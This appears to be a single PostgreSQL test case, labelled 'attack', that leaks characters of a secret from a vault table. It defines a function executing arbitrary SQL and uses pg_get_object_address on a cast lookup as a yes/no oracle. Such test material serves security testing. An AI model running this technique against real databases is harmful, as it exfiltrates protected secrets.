-- Asks for a cast between types that stand for the letters of a row of the vault.
-- wants: read
-- shows: cast from type
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text LANGUAGE plpgsql AS 'DECLARE one text; BEGIN EXECUTE sql INTO one; RETURN one; END';
SELECT pg_get_object_address('cast', ARRAY[one_of('SELECT CASE WHEN secret LIKE ''t%'' THEN ''point'' ELSE ''box'' END FROM vlt' || '_account WHERE id = 1')], '{uuid}');
